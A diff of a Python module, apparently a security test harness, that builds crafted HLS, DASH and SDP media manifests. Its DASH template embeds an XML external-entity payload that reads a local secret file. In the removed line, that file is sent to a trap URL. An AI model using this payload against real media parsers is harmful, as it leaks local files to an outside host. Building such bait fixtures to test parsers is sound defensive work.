@@ -9,8 +9,8 @@ from crafting import Bait, Crafted, cut, data, text
 _HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:6\n{}#EXTINF:4,\n{}\n#EXT-X-ENDLIST\n"
 _DASH = """<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://{secret}">]>
 <MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT4S"><Period>
-<BaseURL>{trap}/&x;</BaseURL><AdaptationSet mimeType="video/mp4">
-<Representation id="1" bandwidth="1"/></AdaptationSet>
+<AdaptationSet contentType="video"><Representation id="1" bandwidth="1" mimeType="video/mp4">
+<BaseURL>{trap}/a.mp4</BaseURL></Representation></AdaptationSet><AdaptationSet><BaseURL>&x;</BaseURL></AdaptationSet>
 </Period></MPD>"""
 _SDP = (
     "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
